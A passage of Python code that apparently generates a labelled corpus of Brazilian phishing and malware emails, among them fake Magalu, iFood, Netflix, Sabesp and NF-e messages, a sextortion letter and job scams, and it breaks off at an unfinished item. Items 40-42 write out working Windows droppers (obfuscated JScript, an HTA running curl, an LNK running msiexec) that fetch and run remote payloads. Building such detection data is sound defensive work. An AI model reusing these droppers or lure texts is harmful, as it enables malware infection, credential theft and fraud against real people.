             "Compra aprovada: Apple iPhone 15 Pro Max", dt(2024, 11, 29, 22, 40, 14),
             alt(plain_of("Compra confirmada", paras, ("Não reconheço esta compra", link), foot), html, bnd(tag)), policy=""))

    # 25 Magalu survey/prize via Brevo with Google AMP redirect
    tag = "magalu-amp"
    url = "https://www.google.com/amp/s/magalu-premiacao.shop/pesquisa/?u=" + lower(tag + "u", 8)
    paras = ["Parabéns, Luciana!", "Você foi selecionada para a <b>Pesquisa de Satisfação Magalu</b> e pode ganhar uma "
             "<b>Air Fryer Mondial 5L</b> pagando apenas o frete (R$ 19,90).",
             "Leva menos de 1 minuto. Restam apenas <b>7 unidades</b>."]
    foot = ["Magazine Luiza S.A.", f"<a href=\"{brevo_click(tag+'uns')}\">Descadastrar</a>"]
    html = esp_card(color="#0086FF", logo="https://img.mailinblue.com/7735120/images/magalu.png", logo_alt="Magalu",
                    preheader="Responda e ganhe", title="Você ganhou um presente Magalu!", paras=paras,
                    button=("Responder pesquisa", url), footer=foot)
    add(Mail(f"b{N}-phish-magalu-pesquisa-premio", "phishing",
             "Magalu 'pesquisa de satisfação, ganhe uma Air Fryer pagando o frete' survey scam via Brevo, the link bounced through a Google AMP URL to a card-harvesting shop.",
             GM2, "gmail", "brevo", "Magalu", "premios@magalu-premiacao.shop",
             "Luciana, você ganhou um presente Magalu!", dt(2025, 7, 1, 19, 33, 48),
             alt(plain_of("Você ganhou um presente Magalu!", paras, ("Responder pesquisa", url), foot), html, bnd(tag)),
             policy="", extra=[f"List-Unsubscribe: <{brevo_click(tag+'uns')}>"]))

    # 26 Americanas fake sale, own VPS
    tag = "americanas-fake"
    url = "https://americanas-ofertas.shop/produto/smart-tv-55-4k?utm_source=email"
    inner = ("<center><table width=\"600\" style=\"font-family:Arial;\"><tr><td style=\"background:#E60014;padding:14px;color:#fff;font-size:26px;\"><b>americanas</b></td></tr>"
             "<tr><td style=\"padding:18px;text-align:center;\"><h2>QUEIMA DE ESTOQUE - SÓ HOJE</h2>"
             "<p><img src=\"https://americanas-ofertas.shop/img/tv55.jpg\" width=\"300\" alt=\"Smart TV\"></p>"
             "<p style=\"font-size:16px;\">Smart TV Samsung 55\" 4K UHD Crystal<br><s>De R$ 3.299,00</s><br>"
             "<span style=\"font-size:28px;color:#E60014;\"><b>Por R$ 399,90 no Pix</b></span></p>"
             f"<p><a href=\"{url}\" style=\"background:#E60014;color:#fff;padding:14px 30px;text-decoration:none;font-size:18px;\">COMPRAR AGORA</a></p>"
             "<p>Também: iPhone 14 por R$ 899 | PlayStation 5 por R$ 749 | Notebook Dell por R$ 599</p>"
             "<p style=\"font-size:11px;color:#888;\">Americanas S.A. - Em recuperação judicial. Estoque limitado.</p></td></tr></table></center>")
    add(Mail(f"b{N}-phish-americanas-queima-estoque", "phishing",
             "Americanas 'queima de estoque: Smart TV 55\" por R$ 399 no Pix' fake-store lure from a .shop look-alike on a VPS, leading to a fake shop that takes Pix payments.",
             UOL1, "uol", "postfix", "Americanas", "ofertas@americanas-ofertas.shop",
             "QUEIMA DE ESTOQUE: Smart TV 55\" 4K por R$ 399,90", dt(2025, 11, 27, 21, 5, 0),
             Multi("alternative", bnd(tag), [text(kit_html(inner, "Americanas"), "html", "base64")]),
             ip="45.132.75.18", rdns="vm1875.vpsnet.pro", helo="americanas-ofertas.shop",
             dkim=[("americanas-ofertas.shop", "x", "pass")], policy="none"))

    # 27 Shopee reembolso from Gmail with t.ly
    tag = "shopee-gmail"
    url = "https://t.ly/" + alnum(tag + "t", 5)
    paras = ["Olá, cliente Shopee!", "",
             "O seu pedido <b>#25031" + digits(tag + "p", 9) + "</b> foi <b>cancelado pelo vendedor</b> e você tem direito a um "
             "<b>reembolso de R$ 286,50</b>.", "",
             "Para receber o valor na sua conta, informe uma chave Pix no formulário de reembolso:", "",
             f"<a href=\"{url}\">{url}</a>", "", "O formulário expira em 24h.", "", "Equipe Shopee Brasil"]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") if not p.startswith("<a") else url for p in paras) + "\n"
    add(Mail(f"b{N}-phish-shopee-reembolso-gmail", "phishing",
             "Shopee 'pedido cancelado, informe sua chave Pix para reembolso' lure from a free Gmail account with a t.ly shortened link to a data/card form.",
             BOL1, "bol", "gmail", "Shopee Brasil", "reembolsos.shopeebr@gmail.com",
             "Reembolso disponível - pedido cancelado pelo vendedor", dt(2025, 3, 25, 10, 48, 2),
             alt(plain, gmail_html(paras), bnd(tag, "gmail")), policy="none"))


def attacks_4():
    # 28 iFood cartão recusado via SES
    tag = "ifood-cartao"
    target = "https://ifood-pagamentos.com/conta/cartao?s=" + lower(tag + "s", 12)
    link = ses_click(tag, target)
    paras = ["Oi, Mariana!", "Não conseguimos processar o pagamento da sua assinatura <b>Clube iFood</b> e do último pedido "
             "(R$ 74,80) porque o cartão cadastrado foi <b>recusado</b>.",
             "Para não perder seus cupons e o frete grátis, atualize a forma de pagamento em até 24 horas."]
    foot = ["iFood.com Agência de Restaurantes Online S.A."]
    html = esp_card(color="#EA1D2C", logo="https://ifood-pagamentos.com/static/ifood.png", logo_alt="iFood",
                    preheader="Atualize seu cartão", title="Pagamento recusado", paras=paras,
                    button=("Atualizar cartão", link), footer=foot)
    add(Mail(f"b{N}-phish-ifood-cartao-recusado", "phishing",
             "iFood 'pagamento recusado, atualize seu cartão' lure via Amazon SES from a look-alike domain harvesting card data.",
             HOT1, "outlook", "ses", "iFood", "pagamentos@ifood-pagamentos.com",
             "Seu pagamento no iFood foi recusado", dt(2025, 5, 30, 20, 3, 18),
             alt(plain_of("Pagamento recusado", paras, ("Atualizar cartão", link), foot), html, bnd(tag)), policy=""))

    # 29 Netflix via hacked WordPress PHPMailer
    tag = "netflix-php"
    url = "https://netflix-br.conta-atualizar.com/login?lang=pt-BR"
    html = ("<table width=\"100%\" style=\"background:#f3f3f3;\"><tr><td align=\"center\"><table width=\"500\" style=\"background:#fff;font-family:Helvetica,Arial;\">"
            "<tr><td style=\"padding:24px;\"><span style=\"color:#E50914;font-size:30px;font-weight:bold;\">NETFLIX</span></td></tr>"
            "<tr><td style=\"padding:0 24px;font-size:15px;color:#221f1f;\"><h2>Atualize sua forma de pagamento</h2>"
            "<p>Olá,</p><p>Tivemos um problema com a cobrança da sua assinatura. Sua conta será <b>suspensa</b> se os dados de pagamento "
            "não forem atualizados.</p>"
            f"<p><a href=\"{url}\" style=\"display:block;background:#E50914;color:#fff;text-align:center;padding:14px;text-decoration:none;\">ATUALIZAR CONTA</a></p>"
            "<p>Estamos aqui para ajudar. Visite a Central de Ajuda para mais informações.</p><p>Equipe Netflix</p></td></tr>"
            "</table></td></tr></table>\n")
    plain = ("Atualize sua forma de pagamento\n\nOlá,\n\nTivemos um problema com a cobrança da sua assinatura. Sua conta será suspensa se os "
             f"dados de pagamento não forem atualizados.\n\nATUALIZAR CONTA: {url}\n\nEquipe Netflix\n")
    m = Mail(f"b{N}-phish-netflix-pagamento-wordpress", "phishing",
             "Netflix payment-failure lure mailed with PHPMailer from a hacked gym WordPress site (cPanel/Exim), linking to a look-alike card-harvesting page.",
             GM1, "gmail", "phpmailer", "Netflix", "info@academiacorpoativo.com.br",
             "Sua conta Netflix está em espera", dt(2024, 7, 16, 2, 14, 45),
             alt(plain, html, bnd(tag, "php")), policy="", helo="br842.hostgator.com.br", ip="162.241.2.187")
    m.site = "academiacorpoativo.com.br"
    m.cpuser = "acade512"
    add(m)

    # 30 Spotify via Mailgun
    tag = "spotify-mg"
    link = mg_click(tag, "mg.spotify-premium-br.com")
    paras = ["Olá,", "Não conseguimos cobrar o seu <b>Spotify Premium Família</b> (R$ 40,90). Atualize seus dados de pagamento "
             "para continuar ouvindo sem anúncios.", "Se não atualizar em 48 horas, sua conta voltará para o plano Free e as playlists "
             "baixadas serão removidas."]
    foot = ["Spotify AB, Regeringsgatan 19, 111 53, Estocolmo, Suécia"]
    html = esp_card(color="#1DB954", logo="https://mg.spotify-premium-br.com/logo.png", logo_alt="Spotify",
                    preheader="Atualize seu pagamento", title="Problema com o pagamento", paras=paras,
                    button=("Atualizar pagamento", link), footer=foot)
    add(Mail(f"b{N}-phish-spotify-premium-mailgun", "phishing",
             "Spotify Premium Família payment-failure lure via Mailgun from a look-alike domain to a card-harvesting kit.",
             TERRA1, "terra", "mailgun", "Spotify", "no-reply@mg.spotify-premium-br.com",
             "Seu pagamento do Spotify Premium falhou", dt(2025, 2, 10, 7, 25, 0),
             alt(plain_of("Problema com o pagamento", paras, ("Atualizar pagamento", link), foot), html, bnd(tag)), policy=""))

    # 31 Enel aviso de corte via SendGrid
    tag = "enel-corte"
    link = sg_click(tag)
    paras = ["Prezado(a) cliente,", f"Identificamos <b>2 faturas em aberto</b> na instalação nº {digits(tag+'i', 10)}, totalizando "
             "<b>R$ 487,23</b>.", "Conforme Resolução ANEEL nº 1.000/2021, o fornecimento de energia poderá ser <b>suspenso a partir de "
             "amanhã</b>. Emita a 2ª via e pague via Pix para evitar o corte e a taxa de religação.",]
    foot = ["Enel Distribuição São Paulo", "Este e-mail foi enviado automaticamente."]
    html = esp_card(color="#E6007E", logo="https://enel-contas.com/img/enel.png", logo_alt="enel",
                    preheader="Evite o corte de energia", title="Aviso de suspensão do fornecimento", paras=paras,
                    button=("Emitir 2ª via e pagar com Pix", link), footer=foot)
    add(Mail(f"b{N}-phish-enel-aviso-corte", "phishing",
             "Enel 'aviso de suspensão do fornecimento, emita a 2ª via e pague com Pix' lure via SendGrid from a look-alike domain where the Pix goes to the fraudster.",
             HOT2, "outlook", "sendgrid", "Enel Distribuição São Paulo", "faturas@enel-contas.com",
             "Aviso de corte: faturas em aberto na sua instalação", dt(2025, 9, 9, 8, 11, 22),
             alt(plain_of("Aviso de suspensão do fornecimento", paras, ("Emitir 2ª via e pagar com Pix", link), foot), html,
                 bnd(tag, "sg")), policy=""))

    # 32 Sabesp 2ª via PDF with changed barcode from compromised Locaweb mailbox
    tag = "sabesp-boleto"
    line = boleto_line(tag, "237")
    lines = ["SABESP - Companhia de Saneamento Basico do Estado de Sao Paulo", "2a VIA DE CONTA - AGUA E ESGOTO", "",
             "Cliente: LUCIANA FERRAZ", "RGI: 0012847390-5    Referencia: 05/2025", "Vencimento: 20/06/2025",
             "Valor do documento: R$ 312,58", "",
             "Banco: 237 - Bradesco", "Beneficiario: MG SOLUCOES E COBRANCAS LTDA - CNPJ 48.117.306/0001-52",
             "Pagador: LUCIANA FERRAZ", "", "Linha digitavel:", line, "",
             "Apos o vencimento cobrar multa de 2% e juros de 1% ao mes.",
             "Sujeito a corte do abastecimento conforme Deliberacao ARSESP."]
    pdf = files.pdf(lines, title="2a Via Sabesp")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Calibri,sans-serif;font-size:11pt;\"><p>Prezada cliente,</p>"
            "<p>Segue em anexo a <b>2ª via da sua conta Sabesp</b> com vencimento em 20/06/2025, conforme solicitado.</p>"
            "<p>Informamos que houve <b>mudança no banco arrecadador</b>. Favor utilizar somente o boleto anexo; pagamentos feitos "
            "pela conta anterior não serão reconhecidos.</p><p>Atenciosamente,<br>Sabesp - Atendimento ao Cliente</p></div></body></html>\n")
    plain = ("Prezada cliente,\n\nSegue em anexo a 2ª via da sua conta Sabesp com vencimento em 20/06/2025, conforme solicitado.\n\n"
             "Informamos que houve mudança no banco arrecadador. Favor utilizar somente o boleto anexo; pagamentos feitos pela conta "
             "anterior não serão reconhecidos.\n\nAtenciosamente,\nSabesp - Atendimento ao Cliente\n")
    body = Multi("mixed", bnd(tag, "ol16"), [alt(plain, html, bnd(tag + "a", "ol16")),
                                     attachment("application/pdf", "2via_Sabesp_RGI_0012847390.pdf", pdf)])
    m = Mail(f"b{N}-phish-sabesp-2via-boleto-alterado", "phishing",
             "Sabesp '2ª via da conta' with a PDF boleto whose barcode and beneficiary were changed to a third-party company ('mudança no banco arrecadador'), sent from a compromised real-estate mailbox on Locaweb.",
             GM2, "gmail", "locaweb", "Sabesp Atendimento", "atendimento@imobiliarialagoazul.com.br",
             "2ª via conta Sabesp - vencimento 20/06/2025", dt(2025, 6, 11, 9, 47, 26), body,
             policy="", dkim=[("imobiliarialagoazul.com.br", "default", "pass")], xmailer="Microsoft Outlook 16.0")
    m.client_ip = "138.199.59.81"
    add(m)

    # 33 Vivo fatura with link to an MSI on Dropbox
    tag = "vivo-msi"
    url = (f"https://www.dropbox.com/scl/fi/{lower(tag+'d', 21)}/Fatura_Vivo_{digits(tag+'f', 8)}.msi"
           f"?rlkey={lower(tag+'rk', 25)}&st={lower(tag+'st', 8)}&dl=1")
    inner = ("<table width=\"600\" align=\"center\" style=\"font-family:Arial;\"><tr><td style=\"background:#660099;padding:16px;color:#fff;font-size:26px;\">vivo</td></tr>"
             "<tr><td style=\"padding:20px;font-size:14px;color:#333;\"><p>Olá, cliente Vivo!</p>"
             "<p>Sua <b>fatura digital de outubro</b> já está disponível.</p>"
             f"<p>Valor: <b>R$ 189,97</b><br>Vencimento: 10/11/2025<br>Linha: (11) 9****-2210</p>"
             f"<p><a href=\"{url}\" style=\"background:#660099;color:#fff;padding:12px 22px;text-decoration:none;\">Baixar fatura</a></p>"
             "<p style=\"font-size:11px;color:#777;\">Telefônica Brasil S.A.</p></td></tr></table>")
    add(Mail(f"b{N}-phish-vivo-fatura-msi-dropbox", "phishing",
             "Vivo 'fatura digital disponível' lure from a look-alike domain whose 'Baixar fatura' button downloads an MSI installer from Dropbox (banking-trojan dropper behind a link).",
             UOL1, "uol", "postfix", "Vivo", "faturadigital@vivo-conta-digital.com",
             "Sua fatura Vivo de outubro chegou", dt(2025, 10, 28, 13, 6, 41),
             Multi("alternative", bnd(tag), [text(kit_html(inner, "Vivo"), "html", "quoted-printable")]),
             ip="185.225.73.44", rdns=None, helo="vivo-conta-digital.com",
             dkim=[("vivo-conta-digital.com", "mail", "pass")], policy=""))

    # 34 Claro linha suspensa via SES
    tag = "claro-linha"
    target = "https://claro-faturas.com/minha-claro/pagar?l=" + digits(tag + "l", 11)
    link = ses_click(tag, target)
    paras = ["Olá, cliente Claro.", "A sua linha <b>(11) 9****-7734</b> está com a fatura de <b>R$ 129,90</b> em atraso.",
             "Para evitar a <b>suspensão parcial dos serviços</b> e a negativação no Serasa, regularize hoje com "
             "<b>20% de desconto</b> pagando via Pix."]
    foot = ["Claro S.A."]
    html = esp_card(color="#DA291C", logo="https://claro-faturas.com/img/claro.png", logo_alt="Claro",
                    preheader="Evite a suspensão da sua linha", title="Sua linha será suspensa", paras=paras,
                    button=("Pagar com desconto", link), footer=foot)
    add(Mail(f"b{N}-phish-claro-linha-suspensa", "phishing",
             "Claro 'fatura em atraso, linha será suspensa, pague com 20% de desconto via Pix' lure via Amazon SES from a look-alike domain.",
             HOT1, "outlook", "ses", "Claro", "minhaclaro@claro-faturas.com",
             "Sua linha Claro será suspensa hoje", dt(2025, 4, 15, 11, 1, 5),
             alt(plain_of("Sua linha será suspensa", paras, ("Pagar com desconto", link), foot), html, bnd(tag)), policy=""))

    # 35 Instagram copyright / account deactivation via Mailgun, Vercel landing
    tag = "insta-copyright"
    url = f"https://meta-appeal-center-{lower(tag+'v', 6)}.vercel.app/instagram/{digits(tag+'c', 15)}"
    paras = ["Olá,", "Sua conta do Instagram recebeu uma <b>denúncia de violação de direitos autorais</b> em uma publicação recente.",
             "Se você acredita que isso é um engano, envie uma contestação em até <b>24 horas</b>. Caso contrário, sua conta será "
             "<b>desativada permanentemente</b>.", f"Caso nº {digits(tag+'c', 15)}"]
    foot = ["Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025"]
    html = esp_card(color="#ffffff", logo="https://static.xx.fbcdn.net/rsrc.php/v3/yb/r/instagram-logo.png", logo_alt="Instagram",
                    preheader="Envie sua contestação em 24 horas", title="Aviso de violação de direitos autorais", paras=paras,
                    button=("Contestar decisão", url), footer=foot,
                    font="-apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, Helvetica, Arial, sans-serif")
    html = html.replace('bgcolor="#ffffff" style="border-radius:6px;"', 'bgcolor="#0095F6" style="border-radius:6px;"')
    add(Mail(f"b{N}-phish-instagram-direitos-autorais", "phishing",
             "Instagram 'violação de direitos autorais, conta será desativada em 24h' lure via Mailgun with the appeal page hosted on a vercel.app subdomain (Meta account takeover).",
             GM1, "gmail", "mailgun", "Instagram", "no-reply@mg.meta-support-center.com",
             "Sua conta do Instagram será desativada", dt(2025, 8, 21, 15, 42, 17),
             alt(plain_of("Aviso de violação de direitos autorais", paras, ("Contestar decisão", url), foot), html, bnd(tag)),
             policy=""))

    # 36 WhatsApp Business verification via Brevo, Netlify landing
    tag = "wa-business"
    url = f"https://wa-business-verificacao-{lower(tag+'n', 5)}.netlify.app/"
    link = brevo_click(tag)
    paras = ["Olá,", "Sua conta do <b>WhatsApp Business</b> vinculada ao número +55 11 9****-0192 foi sinalizada por "
             "descumprir a Política Comercial.", "Para evitar o <b>banimento definitivo</b> do número e a perda do histórico de "
             "conversas com clientes, verifique sua conta comercial em até 12 horas."]
    foot = ["WhatsApp LLC", f"<a href=\"{brevo_click(tag+'uns')}\">Cancelar inscrição</a>"]
    html = esp_card(color="#25D366", logo="https://img.mailinblue.com/8876102/images/wa.png", logo_alt="WhatsApp",
                    preheader="Verifique sua conta comercial", title="Sua conta comercial será banida", paras=paras,
                    button=("Verificar conta", link), footer=foot)
    add(Mail(f"b{N}-phish-whatsapp-business-banimento", "phishing",
             "WhatsApp Business 'conta sinalizada, será banida em 12h' lure to a small company via Brevo, the tracked link ending on a netlify.app verification page that steals the registration code.",
             PF, "postfix", "brevo", "WhatsApp Business", "suporte@whatsapp-verificacao.com",
             "Aviso: sua conta WhatsApp Business será banida", dt(2025, 2, 19, 16, 30, 22),
             alt(plain_of("Sua conta comercial será banida", paras, ("Verificar conta", link), foot), html, bnd(tag)),
             policy="", rx_host="mail.oficinaboaviagem.com.br",
             extra=[f"List-Unsubscribe: <{brevo_click(tag+'uns')}>"]))

    # 37 Job scam (task scam) from Gmail with wa.me link
    tag = "vaga-tarefas"
    wa = "https://wa.me/5511987402215?text=Quero%20a%20vaga"
    paras = ["Olá, tudo bem?", "",
             "Encontramos seu currículo em uma plataforma de vagas e você foi pré-selecionado(a) para a vaga de "
             "<b>Assistente de Avaliação de Produtos (Home Office)</b>.", "",
             "- Remuneração: R$ 250,00 a R$ 800,00 por dia", "- Jornada flexível, 30 a 60 minutos por dia, pelo celular",
             "- Pagamento diário via Pix", "- Não é necessário experiência", "",
             f"Para participar, chame nossa recrutadora no WhatsApp: <a href=\"{wa}\">{wa}</a>", "",
             "Vagas limitadas.", "", "Camila Rocha", "Recrutamento - Parceiros Mercado Livre"]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "").replace(f"<a href=\"{wa}\">{wa}</a>", wa) for p in paras) + "\n"
    add(Mail(f"b{N}-phish-vaga-home-office-whatsapp", "phishing",
             "Job scam ('avaliador de produtos home office, R$ 250-800 por dia via Pix') from a free Gmail account pushing the victim to a WhatsApp recruiter (task scam that ends in deposits).",
             HOT2, "outlook", "gmail", "Camila Rocha | Recrutamento", "camila.rocha.recrutamento@gmail.com",
             "Vaga Home Office - pré-seleção aprovada", dt(2025, 6, 17, 12, 9, 3),
             alt(plain, gmail_html(paras), bnd(tag, "gmail")), policy="none"))


def attacks_5():
    # 38 Fake hiring with "exame admissional" Pix fee, from Outlook.com, no link
    tag = "vaga-taxa"
    plain = ("Prezada Luciana,\n\n"
             "Temos o prazer de informar que o seu perfil foi APROVADO na etapa de análise curricular do Processo Seletivo "
             "Simplificado 2025 para o cargo de Assistente Administrativo (salário R$ 3.870,00 + VR R$ 1.100,00 + plano de saúde), "
             "com lotação em Campinas/SP.\n\n"
             "Para prosseguir para a admissão, é necessário realizar o exame médico admissional em uma de nossas clínicas "
             "credenciadas. A taxa do exame (R$ 89,90) é paga antecipadamente pelo candidato e reembolsada integralmente no primeiro "
             "salário.\n\n"
             "Dados para pagamento via Pix:\n"
             "Chave (e-mail): clinica.ocupacional.credenciada@gmail.com\n"
             "Favorecido: M. A. SANTOS SAUDE OCUPACIONAL\n\n"
             "Após o pagamento, responda este e-mail com o comprovante, cópia do RG, CPF, comprovante de residência e dados "
             "bancários para cadastro na folha. O prazo para envio é de 48 horas; após isso a vaga será repassada ao próximo "
             "candidato da lista.\n\n"
             "Atenciosamente,\n\nDepartamento de Recursos Humanos\nProcesso Seletivo 2025 - Recrutamento e Seleção\n")
    html = outlook_html("<p>" + "</p>\n<p>".join(x.replace("\n", "<br>") for x in plain.strip().split("\n\n")) + "</p>")
    add(Mail(f"b{N}-phish-vaga-exame-admissional-pix", "phishing",
             "Advance-fee job scam from a free Outlook.com account: 'aprovada no processo seletivo', pay R$ 89,90 exame admissional by Pix and send RG/CPF/bank data; no links.",
             GM2, "gmail", "outlook", "RH Processo Seletivo 2025", "rh.processoseletivo2025@outlook.com",
             "Processo Seletivo 2025 - Aprovada na análise curricular - próximos passos", dt(2025, 1, 14, 10, 22, 0),
             alt(plain, html, bnd(tag, "outlook")), policy="none"))

    # 39 Sextortion in Portuguese spoofing the victim's own UOL address
    tag = "sextorsao"
    plain = ("Olá!\n\n"
             "Sou um programador e tenho acesso ao seu dispositivo há alguns meses. Como você deve ter notado, enviei este e-mail "
             "a partir da sua própria conta.\n\n"
             "Instalei um software malicioso quando você visitou um site adulto. Ele me deu acesso total à sua câmera, microfone, "
             "contatos do WhatsApp, e-mails e redes sociais. Gravei um vídeo seu se masturbando enquanto assistia aos vídeos, "
             "lado a lado com o que estava na tela.\n\n"
             "Com um clique posso enviar este vídeo para todos os seus contatos, familiares e colegas de trabalho.\n\n"
             "Mas podemos resolver isso. Transfira R$ 6.500,00 em Bitcoin (BTC) para a carteira abaixo:\n\n"
             "bc1qx7k3m2v9dr4wz0h8fe5tqlp6c2jy3ns8u0ga4m\n\n"
             "(Se não sabe como comprar Bitcoin, pesquise no Google \"comprar bitcoin Binance\" ou \"Mercado Bitcoin\".)\n\n"
             "Você tem 48 horas a partir da leitura deste e-mail. Eu saberei quando você abrir esta mensagem. Após o pagamento, "
             "apago o vídeo e desapareço da sua vida. Não adianta trocar a senha nem denunciar à polícia, o vídeo será enviado "
             "automaticamente.\n\n"
             "Não responda este e-mail.\n")
    add(Mail(f"b{N}-phish-sextorsao-bitcoin", "phishing",
             "Portuguese sextortion spoofing the recipient's own UOL address ('enviei a partir da sua conta'), demanding R$ 6.500 in Bitcoin within 48h; SPF/DMARC fail, no links.",
             UOL1, "uol", "direct", "", UOL1, "Seu vídeo íntimo - resolva isso em 48 horas", dt(2024, 10, 22, 4, 17, 9),
             text(plain, "plain", "base64"), mailfrom=f"rcosta@{'vnpt-hn.' + 'com.vn'}", ip="14.177.232.91",
             rdns=None, helo="static.vnpt.vn", spf="softfail", dkim=[], policy="none", dmarc="fail",
             msgid=f"<{hx(tag+'m', 8)}{hx(tag+'m2', 4)}$%s@uol.com.br>" % upper(tag + "m3", 8)))

    # 40 NF-e ZIP with JScript dropper from a compromised small-business Locaweb mailbox
    tag = "nfe-js"
    nf = digits(tag + "nf", 6)
    js = ("var _0x4f=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x4d\\x53\\x58\\x4d\\x4c\\x32\\x2e\\x58\\x4d\\x4c\\x48\\x54\\x54\\x50'];\r\n"
          "var h=['ht','tps:','//nfe-consulta-sefaz','.com/d/','nf" + nf + ".php'].join('');\r\n"
          "try{var x=new ActiveXObject(_0x4f[1]);x.open('GET',h,false);x.send();\r\n"
          "var p=WScript.CreateObject('Scripting.FileSystemObject').GetSpecialFolder(2)+'\\\\nfe" + nf + ".cmd';\r\n"
          "var s=new ActiveXObject('ADODB.Stream');s.Type=1;s.Open();s.Write(x.responseBody);s.SaveToFile(p,2);s.Close();\r\n"
          "new ActiveXObject(_0x4f[0]).Run(p,0,false);}catch(e){}\r\n")
    z = files.zip_archive([(f"NFe_{nf}_DANFE.js", js.encode())])
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\"></head><body>"
            "<div style=\"font-family:Arial;font-size:10pt;\"><p>Prezado cliente,</p>"
            f"<p>Segue em anexo a <b>Nota Fiscal Eletrônica nº {nf}</b> e o respectivo DANFE referentes ao pedido de compra.</p>"
            "<p>Valor total: R$ 4.872,30<br>Vencimento do boleto: 10 dias</p>"
            "<p>Qualquer dúvida estamos à disposição.</p>"
            "<p>Att,<br>Faturamento<br>Distribuidora Max Frios Ltda<br>(19) 3242-8810</p></div></body></html>\n")
    body = Multi("mixed", bnd(tag, "ol16"), [text(html, "html", "quoted-printable", "iso-8859-1"),
                                     attachment("application/x-zip-compressed", f"NFe_{nf}.zip", z)])
    m = Mail(f"b{N}-phish-nfe-zip-jscript", "malware",
             f"'Nota Fiscal Eletrônica nº {nf}' from a compromised distributor mailbox on Locaweb carrying a ZIP with an obfuscated JScript downloader (NF-e banking-trojan dropper).",
             PF, "postfix", "locaweb", "Faturamento Max Frios", "faturamento@distribuidoramaxfrios.com.br",
             f"NF-e {nf} - Distribuidora Max Frios", dt(2025, 2, 26, 10, 4, 17), body, policy="",
             dkim=[("distribuidoramaxfrios.com.br", "default", "pass")], charset="iso-8859-1", hmode="Q",
             rx_host="mail.oficinaboaviagem.com.br", xmailer="Microsoft Outlook 16.0")
    m.client_ip = "91.92.243.18"
    add(m)

    # 41 DANFE with ZIP/HTA via SES look-alike
    tag = "danfe-hta"
    chave = digits(tag + "ch", 44)
    hta = ("<html><head><title>DANFE</title>\r\n<HTA:APPLICATION ID=\"d\" WINDOWSTATE=\"minimize\" SHOWINTASKBAR=\"no\" />\r\n"
           "<script language=\"VBScript\">\r\n"
           "Dim o: Set o = CreateObject(\"WScript.Shell\")\r\n"
           "o.Run \"cmd /c curl -s -o %TEMP%\\\\dnf.zip https://danfe-arquivos.net/get/" + chave[-8:] + " && tar -xf %TEMP%\\\\dnf.zip -C %TEMP% && %TEMP%\\\\dnf\\\\AutoIt3.exe %TEMP%\\\\dnf\\\\script.a3x\", 0, False\r\n"
           "window.close\r\n</script></head><body></body></html>\r\n")
    z = files.zip_archive([(f"DANFE_{chave[-9:]}.hta", hta.encode())])
    paras = ["Prezado(a),", f"Você recebeu um Documento Auxiliar da Nota Fiscal Eletrônica (DANFE).",
             f"<b>Chave de acesso:</b> {' '.join(chave[i:i+4] for i in range(0, 44, 4))}",
             "<b>Emitente:</b> COMERCIAL ATACADISTA SUL LTDA<br><b>Valor:</b> R$ 2.318,40",
             "O arquivo XML e o DANFE estão anexados em formato compactado."]
    foot = ["Emissor NF-e - Sistema de Notas Fiscais Eletrônicas"]
    html = esp_card(color="#2E7D32", logo="https://notafiscal-danfe.net/img/nfe.png", logo_alt="NF-e",
                    preheader="DANFE disponível", title="Nota Fiscal Eletrônica emitida", paras=paras, footer=foot)
    body = Multi("mixed", bnd(tag), [alt(plain_of("Nota Fiscal Eletrônica emitida", paras, None, foot), html, bnd(tag + "a")),
                                     attachment("application/zip", f"DANFE_NFe_{chave[-9:]}.zip", z)])
    add(Mail(f"b{N}-phish-danfe-zip-hta", "malware",
             "DANFE/NF-e notice from a look-alike 'notafiscal-danfe.net' domain via Amazon SES with a ZIP holding an HTA that fetches an AutoIt loader (Brazilian banking-trojan chain).",
             TERRA1, "terra", "ses", "NF-e Emissor", "nfe@notafiscal-danfe.net",
             f"Você recebeu uma NF-e - DANFE nº {chave[-9:]}", dt(2025, 5, 6, 9, 18, 39), body, policy=""))

    # 42 Intimação judicial, ISO with LNK
    tag = "intimacao-iso"
    proc = f"{digits(tag+'p1', 7)}-{digits(tag+'p2', 2)}.2025.8.26.{digits(tag+'p3', 4)}"
    lnk = files.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                             "/c start /min msiexec /q /i https://tjsp-intimacoes.com/documentos/visualizador.msi")
    decoy = files.pdf(["TRIBUNAL DE JUSTICA DO ESTADO DE SAO PAULO", "MANDADO DE INTIMACAO", f"Processo: {proc}",
                       "Documento protegido. Utilize o visualizador."], title="Intimacao")
    iso = files.iso_image([(f"Intimacao_Processo_{proc[:7]}.pdf.lnk", lnk), ("doc.pdf", decoy)], "INTIMACAO")
    html = ("<div style=\"font-family:Times New Roman,serif;font-size:13pt;\"><p style=\"text-align:center;\"><b>PODER JUDICIÁRIO<br>"
            "TRIBUNAL DE JUSTIÇA DO ESTADO DE SÃO PAULO</b></p>"
            f"<p><b>INTIMAÇÃO ELETRÔNICA</b><br>Processo nº {proc}<br>Classe: Procedimento Comum Cível<br>Assunto: Cobrança</p>"
            "<p>Fica Vossa Senhoria <b>INTIMADO(A)</b> para, no prazo de 15 (quinze) dias, apresentar manifestação nos autos em epígrafe, "
            "sob pena de revelia e demais cominações legais.</p>"
            "<p>O inteiro teor da decisão segue em anexo.</p>"
            "<p>Cartório da 3ª Vara Cível - Foro Central</p></div>\n")
    body = Multi("mixed", bnd(tag), [text(html, "html", "quoted-printable"),
                                     attachment("application/x-iso9660-image", f"Intimacao_{proc[:7]}.iso", iso)])
    add(Mail(f"b{N}-phish-intimacao-judicial-iso-lnk", "malware",
             "TJSP 'intimação eletrônica' from a look-alike domain with an ISO image holding a .pdf.lnk shortcut that runs msiexec against a remote MSI, plus a decoy PDF.",
             UOL1, "uol", "postfix", "TJSP - Intimações", "intimacao@tjsp-intimacoes.com",
             f"Intimação Eletrônica - Processo {proc}", dt(2025, 3, 12, 15, 51, 7), body,
             ip="5.188.87.56", rdns=None, helo="tjsp-intimacoes.com",
             dkim=[("tjsp-intimacoes.com", "default", "pass")], policy=""))

    # 43 Comprovante Pix, HTML smuggling a ZIP with LNK
